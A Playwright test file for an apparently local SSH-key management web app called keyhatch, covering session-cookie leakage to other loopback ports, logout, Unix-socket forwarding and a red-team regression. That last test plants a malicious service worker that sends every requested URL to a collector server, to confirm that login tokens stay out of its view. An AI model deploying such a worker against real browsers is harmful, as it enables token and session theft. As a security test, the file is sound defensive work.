// Local mode in a real browser: the session cookie, Log out, and the page over a Unix socket.
import { createServer as createHttpServer } from "node:http";
import { createConnection, createServer, AddressInfo } from "node:net";
import { rmSync } from "node:fs";
import { join } from "node:path";
import { request } from "@playwright/test";
import { TOKEN, expect, openSshKeys, scriptsRun, startKeyhatch, stop, test } from "./app";

test.describe("the session cookie", () => {
// The other port's page (its favicon, once it is closed: refused, or reset when the stand-in
// closes a connection the favicon request is on) and the page after Log out fail to load.
test.use({ allowConsoleErrors: ["ERR_CONNECTION_REFUSED", "ERR_CONNECTION_RESET", "401"] });

test("a page on another loopback port gets only a session id, and Log out ends it", async ({ page, app, consoleErrors }) => {
  await openSshKeys(page, app);
  // Another account's server on another port of 127.0.0.1: the browser sends it the cookies.
  const seen: string[] = [];
  const other = createHttpServer((req, res) => {
    seen.push(req.headers.cookie ?? "");
    res.end("elsewhere");
  });
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  const port = (other.address() as AddressInfo).port;
  await page.goto(`http://127.0.0.1:${port}/`);
  other.close();
  expect(seen.join(";")).toContain("keyhatch_session_");
  expect(seen.join(";")).not.toContain(TOKEN);
  const session = seen.join(";").match(/keyhatch_session_\d+=([0-9a-f]+)/)![1];
  // Replayed from outside the browser (no cookie jar), the session id is no token.
  const outside = await request.newContext();
  const replayed = await outside.get(`${app.base}/api/keys/list`, {
    headers: { Authorization: `Bearer ${session}` },
  });
  expect(replayed.status()).toBe(401);
  await outside.dispose();

  await page.goto(`${app.base}/ssh-keys`);
  await expect(page.locator("main[data-hydrated=true]")).toBeAttached();
  await page.locator(".profile-button").click();
  await page.getByRole("menuitem", { name: "Log out" }).click();
  await expect(page.getByRole("heading", { name: "You are logged out" })).toBeVisible();
  const after = await page.goto(`${app.base}/ssh-keys`);
  expect(after!.status()).toBe(401);
});
});

test.describe("over a Unix socket", () => {
  test("the whole flow works through a forward, as through ssh -L", async ({ page, home, context, consoleErrors }) => {
    const socket = join(home, "keyhatch.sock");
    const { child, runtime } = await startKeyhatch(["--socket", socket, "--home", home]);
    // What `ssh -L PORT:SOCKET NODE` does: a local TCP port piped to the socket.
    const forward = createServer((client) => {
      const upstream = createConnection(socket);
      client.pipe(upstream).pipe(client);
      client.on("error", () => upstream.destroy());
      upstream.on("error", () => client.destroy());
    });
    await new Promise<void>((resolve) => forward.listen(0, "127.0.0.1", resolve));
    const base = `http://127.0.0.1:${(forward.address() as AddressInfo).port}`;
    try {
      await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: base });
      await openSshKeys(page, { base, home, authorizedKeys: join(home, ".ssh", "authorized_keys"), runtime });
      await page.getByRole("button", { name: "+ New Key" }).click();
      const dialog = page.getByRole("dialog", { name: "Generate SSH Key" });
      await dialog.getByRole("button", { name: "Generate Key" }).click();
      const created = page.getByRole("dialog", { name: "SSH Key Generated" });
      await expect(created.locator("[data-field=type]")).toHaveText("ssh-ed25519");
      await created.getByRole("button", { name: "Copy Private Key" }).click();
      await created.getByRole("button", { name: "Close" }).click();
      await expect(page.getByRole("list", { name: "SSH keys" }).getByRole("listitem")).toHaveCount(1);
    } finally {
      forward.close();
      await stop(child);
      rmSync(runtime, { recursive: true, force: true });
    }
  });
});

test.describe("an origin of its own for each start", () => {
  // The worker's reports to the collector, and the stand-in's favicon once it is closed.
  test.use({ allowConsoleErrors: ["ERR_CONNECTION_REFUSED", "ERR_CONNECTION_RESET"] });

  // Red team (helper-49): another account held keyhatch's port while it was down and left a
  // service worker at http://127.0.0.1:PORT; it took the next login link the person opened
  // there and made a key for itself. The link now opens an origin nobody served before.
  test("a service worker another account left on keyhatch's port never sees its login", async ({ page, home }) => {
    test.skip(!scriptsRun(), "the squatter's page needs its script to plant the worker");
    const listen = (server: ReturnType<typeof createHttpServer>) =>
      new Promise<number>((resolve) => server.listen(0, "127.0.0.1", () => resolve((server.address() as AddressInfo).port)));
    const seen: string[] = [];
    const collector = createHttpServer((req, res) => {
      seen.push(decodeURIComponent(req.url ?? ""));
      res.end();
    });
    const collectorPort = await listen(collector);
    const worker = `self.addEventListener("install", () => self.skipWaiting());
      self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
      self.addEventListener("fetch", (e) => {
        fetch("http://127.0.0.1:${collectorPort}/seen?" + encodeURIComponent(e.request.url), { mode: "no-cors" });
      });`;
    const squatter = createHttpServer((req, res) => {
      if (req.url === "/sw.js") {
        res.setHeader("content-type", "text/javascript");
        return res.end(worker);
      }
      res.setHeader("content-type", "text/html");
      res.end(`<title>squatter</title><script>navigator.serviceWorker.register("/sw.js")
        .then(() => navigator.serviceWorker.ready).then(() => { document.title = "planted"; });</script>`);
    });
    const port = await listen(squatter);
    await page.goto(`http://127.0.0.1:${port}/`);
    await expect(page).toHaveTitle("planted");
    // The worker sees what is opened on its origin.
    await page.goto(`http://127.0.0.1:${port}/probe`);
    await expect.poll(() => seen.some((u) => u.includes(`127.0.0.1:${port}/probe`))).toBe(true);
    squatter.closeAllConnections();
    await new Promise((resolve) => squatter.close(resolve));

    const { child, link, origin, runtime } = await startKeyhatch(["--addr", `127.0.0.1:${port}`, "--home", home]);
    try {
      await page.goto(link);
      await expect(page).toHaveURL(`${origin}/ssh-keys`);
      await expect(page.getByRole("heading", { name: "SSH Keys" })).toBeVisible();
      await expect(page.locator("main[data-hydrated=true]")).toBeAttached();
      await page.getByRole("button", { name: "+ New Key" }).click();
      await page.getByRole("dialog", { name: "Generate SSH Key" }).getByRole("button", { name: "Generate Key" }).click();
      const created = page.getByRole("dialog", { name: "SSH Key Generated" });
      await expect(created.locator("[data-field=type]")).toHaveText("ssh-ed25519");
      const reported = seen.filter((u) => u.includes("token=") || u.includes(".localhost") || u.includes("/api/"));
      expect(reported, "what the planted worker saw of keyhatch").toEqual([]);
      expect(origin).toMatch(new RegExp(`^http://k[0-9a-f]{32}\\.localhost:${port}$`));
    } finally {
      await stop(child);
      collector.close();
      rmSync(runtime, { recursive: true, force: true });
    }
  });
});
